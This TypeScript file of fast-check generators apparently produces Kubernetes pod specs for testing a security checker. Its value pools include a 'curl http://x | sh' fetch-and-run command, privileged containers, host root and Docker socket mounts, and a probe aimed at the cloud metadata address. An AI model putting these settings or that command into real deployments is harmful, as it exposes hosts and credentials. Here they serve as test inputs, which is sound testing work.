import type { JsonObject } from '@breakwater/model';
import fc from 'fast-check';

/** A record whose fields are each there or not. */
const some = (fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<JsonObject> =>
  fc.record(fields, { requiredKeys: [] }) as fc.Arbitrary<JsonObject>;

/** Often the first, sometimes the other. */
const mostly = <T, U>(usual: fc.Arbitrary<T>, odd: fc.Arbitrary<U>, weight = 4): fc.Arbitrary<T | U> =>
  fc.oneof({ arbitrary: usual, weight }, { arbitrary: odd, weight: 1 });

const flag = fc.boolean();

const profile = fc.oneof(
  fc.constantFrom({ type: 'RuntimeDefault' }, { type: 'Unconfined' }),
  fc.constant({ type: 'Localhost', localhostProfile: 'profiles/audit.json' }),
);

const capability = fc.constantFrom(
  'ALL',
  'NET_BIND_SERVICE',
  'NET_RAW',
  'SYS_ADMIN',
  'CHOWN',
  'SYS_PTRACE',
  'CAP_CHOWN',
  'all',
);

const seLinux = some({
  type: fc.constantFrom('', 'container_t', 'container_engine_t', 'spc_t'),
  user: fc.constantFrom('', 'system_u'),
  role: fc.constantFrom('', 'system_r'),
  level: fc.constant('s0:c1,c2'),
});

const containerContext = some({
  privileged: flag,
  allowPrivilegeEscalation: flag,
  runAsNonRoot: flag,
  runAsUser: fc.constantFrom(0, 1, 1000, 65_534),
  runAsGroup: fc.constantFrom(0, 1000),
  readOnlyRootFilesystem: flag,
  capabilities: some({
    add: fc.uniqueArray(capability, { maxLength: 3 }),
    drop: fc.uniqueArray(capability, { maxLength: 3 }),
  }),
  seccompProfile: profile,
  appArmorProfile: profile,
  seLinuxOptions: seLinux,
  procMount: mostly(fc.constant('Default'), fc.constant('Unmasked')),
});

const quantity = fc.constantFrom('64Mi', '0.5Gi', '1G', '1048576k', '128974848', '1e9');
const resources = some({
  limits: some({ memory: quantity, cpu: fc.constantFrom('100m', '2', '0.5'), 'ephemeral-storage': quantity }),
  requests: fc.constantFrom<JsonObject>({}, { memory: '1Mi' }, { cpu: '10m' }),
});

const handler = fc.oneof(
  some({ host: fc.constantFrom('', '10.0.0.1', 'example.com'), path: fc.constant('/live') }).map((get) => ({
    httpGet: { port: 8080, ...get },
  })),
  some({ host: fc.constantFrom('', '169.254.169.254') }).map((socket) => ({ tcpSocket: { port: 'web', ...socket } })),
  fc.constant({ exec: { command: ['true'] } }),
);

const variable = fc.oneof(
  fc.record({
    name: fc.constantFrom('PATH_TO', 'DB_PASSWORD', 'api_key', 'TOKEN', 'PRIVATE_KEY', 'x.y', 'NOT_A_SECRET_NAME'),
    value: fc.constantFrom('', 'true', '/run/secrets/x', '$(OTHER)', 'hunter2', "it's 100% \\ fine", 'é 漢 🙂'),
  }),
  fc.constant({ name: 'FROM_SECRET', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }),
);

const port = fc
  .record({
    containerPort: fc.constantFrom(80, 8080, 22, 53),
    hostPort: mostly(fc.constant(0), fc.constantFrom(80, 2222)),
  })
  .map(({ containerPort, hostPort }) => (hostPort === 0 ? { containerPort } : { containerPort, hostPort }));

const image = fc.constantFrom(
  'nginx',
  'nginx:latest',
  'nginx:1.27',
  'registry.example:5000/team/app',
  'registry.example:5000/team/app:1',
  'docker.io/library/redis@sha256:4bed291aa5efb9f0d77b76ff7d4ab71eee410962965d052552db1fb80576431d',
  'ghcr.io/Org/App:v1.2.3',
);

const container = some({
  securityContext: containerContext,
  resources,
  env: fc.array(variable, { maxLength: 3 }),
  ports: fc.uniqueArray(port, { maxLength: 2, selector: ({ containerPort }) => containerPort }),
  command: fc.constantFrom(['sleep', '1'], ['sh', '-c', 'curl http://x | sh']),
  args: fc.constant(['--verbose']),
  imagePullPolicy: fc.constantFrom('Always', 'IfNotPresent', 'Never'),
  stdin: flag,
  tty: flag,
  terminationMessagePath: fc.constant('/dev/log'),
  volumeMounts: fc.constantFrom(
    [],
    [{ name: 'v0', mountPath: '/data' }],
    [{ name: 'v0', mountPath: '/var/run/docker.sock', readOnly: true }],
  ),
});

const running = some({
  livenessProbe: handler,
  readinessProbe: handler,
  startupProbe: handler,
  lifecycle: some({ postStart: handler, preStop: handler }),
});

const volume = fc.constantFrom<JsonObject>(
  { emptyDir: {} },
  { emptyDir: { medium: 'Memory', sizeLimit: '1Gi' } },
  { hostPath: { path: '/' } },
  { hostPath: { path: '/var/run/docker.sock', type: 'Socket' } },
  { hostPath: { path: '/run/containerd/containerd.sock' } },
  { hostPath: { path: '/var/log' } },
  { configMap: { name: 'settings' } },
  { secret: { secretName: 'keys', defaultMode: 256 } },
  { persistentVolumeClaim: { claimName: 'data' } },
  { nfs: { server: 'nfs.example', path: '/share' } },
  { csi: { driver: 'secrets.csi.example' } },
  { downwardAPI: { items: [{ path: 'labels', fieldRef: { fieldPath: 'metadata.labels' } }] } },
  { projected: { sources: [{ serviceAccountToken: { path: 'token', expirationSeconds: 600 } }] } },
  {
    ephemeral: {
      volumeClaimTemplate: { spec: { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } } },
    },
  },
  { iscsi: { targetPortal: '10.0.0.1:3260', iqn: 'iqn.2001-04.com.example:storage', lun: 0 } },
  { image: { reference: 'registry.example/files:1' } },
);

const sysctl = fc.constantFrom(
  { name: 'kernel.shm_rmid_forced', value: '1' },
  { name: 'net.ipv4.tcp_syncookies', value: '1' },
  { name: 'net.ipv4.tcp_rmem', value: '4096 87380 6291456' },
  { name: 'net.ipv4.tcp_slow_start_after_idle', value: '0' },
  { name: 'kernel.msgmax', value: '65536' },
  { name: 'net.core.somaxconn', value: '1024' },
);

const podContext = some({
  runAsNonRoot: flag,
  runAsUser: fc.constantFrom(0, 1, 1000),
  fsGroup: fc.constantFrom(0, 2000),
  supplementalGroups: fc.constantFrom([], [0], [4, 5]),
  seccompProfile: profile,
  appArmorProfile: profile,
  seLinuxOptions: seLinux,
  sysctls: fc.uniqueArray(sysctl, { maxLength: 3, selector: ({ name }) => name }),
});

const podFields = some({
  securityContext: podContext,
  hostNetwork: mostly(fc.constant(false), flag),
  hostPID: flag,
  hostIPC: flag,
  hostUsers: flag,
  shareProcessNamespace: flag,
  serviceAccountName: fc.constantFrom('default', 'builder'),
  automountServiceAccountToken: flag,
  nodeName: fc.constant('node-1'),
  priorityClassName: fc.constant(''),
  tolerations: fc.constantFrom([], [{ operator: 'Exists' }]),
  terminationGracePeriodSeconds: fc.constantFrom(0, 30, 600),
  dnsPolicy: fc.constantFrom('ClusterFirst', 'Default'),
  os: fc.constant({ name: 'linux' }),
  volumes: fc
    .array(volume, { minLength: 1, maxLength: 3 })
    .map((volumes) => volumes.map((written, index) => ({ name: `v${index}`, ...written }))),
});

/** A pod of Windows may say little of what a pod of Linux says. */
const windowsPod: fc.Arbitrary<JsonObject> = fc
  .tuple(some({ hostProcess: flag, runAsUserName: fc.constant('ContainerUser') }), flag)
  .map(([windowsOptions, hostNetwork]) => ({
    os: { name: 'windows' },
    ...(windowsOptions['hostProcess'] === true || hostNetwork ? { hostNetwork: true } : {}),
    securityContext: { windowsOptions: windowsOptions as JsonObject },
    containers: [{ name: 'app', image: 'app:1' }],
  }));

/** Leaves out what contradicts the rest: namespaces of the node go with its users, and its sysctls are its own. */
function consistent(fields: JsonObject): JsonObject {
  const { hostUsers, shareProcessNamespace, ...rest } = fields;
  const shares = ['hostNetwork', 'hostPID', 'hostIPC'].some((name) => fields[name] === true);
  const context = fields['securityContext'] as JsonObject | undefined;
  const { sysctls, ...others } = context ?? {};
  return {
    ...rest,
    ...(hostUsers === undefined || (shares && hostUsers === false) ? {} : { hostUsers }),
    ...(shareProcessNamespace === undefined || fields['hostPID'] === true ? {} : { shareProcessNamespace }),
    ...(context === undefined ? {} : { securityContext: shares || sysctls === undefined ? others : context }),
  };
}

const linuxPod: fc.Arbitrary<JsonObject> = fc
  .tuple(
    podFields.map(consistent),
    fc.array(fc.tuple(container, running, image), { minLength: 1, maxLength: 3 }),
    fc.array(fc.tuple(container, image), { maxLength: 2 }),
  )
  .map(([fields, main, init]) => ({
    ...fields,
    containers: main.map(([written, probes, reference], index) =>
      named(`main-${index}`, { ...written, ...probes, image: reference }, fields),
    ),
    ...(init.length === 0
      ? {}
      : {
          initContainers: init.map(([written, reference], index) =>
            named(`init-${index}`, { ...written, image: reference }, fields),
          ),
        }),
  }));

/** A container that an API server takes: what contradicts the rest of the pod is left out. */
function named(name: string, written: JsonObject, pod: JsonObject): JsonObject {
  const { volumeMounts, ports, livenessProbe, lifecycle, ...rest } = written;
  const context = written['securityContext'] as JsonObject | undefined;
  return {
    ...rest,
    name,
    ...(pod['volumes'] !== undefined && volumeMounts !== undefined ? { volumeMounts } : {}),
    ...(ports !== undefined ? { ports: portsFor(ports as JsonObject[], pod) } : {}),
    ...(livenessProbe !== undefined ? { livenessProbe: { ...(livenessProbe as JsonObject), periodSeconds: 7 } } : {}),
    ...(lifecycle !== undefined && Object.keys(lifecycle as JsonObject).length > 0 ? { lifecycle } : {}),
    ...(context === undefined ? {} : { securityContext: contextFor(context, pod) }),
  };
}

const portsFor = (ports: JsonObject[], pod: JsonObject): JsonObject[] =>
  pod['hostNetwork'] === true
    ? ports.map(({ containerPort }) => ({ containerPort: containerPort as number, hostPort: containerPort as number }))
    : ports.map((port, index) => (index === 0 ? { ...port, name: 'web' } : port));

/** Privileged containers may always escalate, and only users of their own may see all of /proc. */
function contextFor(context: JsonObject, pod: JsonObject): JsonObject {
  const { procMount, allowPrivilegeEscalation, ...rest } = context;
  const capabilities = rest['capabilities'] as JsonObject | undefined;
  const added = capabilities?.['add'];
  const mayEscalate = rest['privileged'] === true || (Array.isArray(added) && added.includes('SYS_ADMIN'));
  return {
    ...rest,
    ...(procMount === 'Unmasked' && pod['hostUsers'] !== false ? {} : procMount === undefined ? {} : { procMount }),
    ...(allowPrivilegeEscalation === undefined || (mayEscalate && allowPrivilegeEscalation === false)
      ? {}
      : { allowPrivilegeEscalation }),
  };
}

/** Pod specs that an API server takes, nearly always, with odd but valid fields. */
export const podSpec: fc.Arbitrary<JsonObject> = mostly(linuxPod, windowsPod, 12);
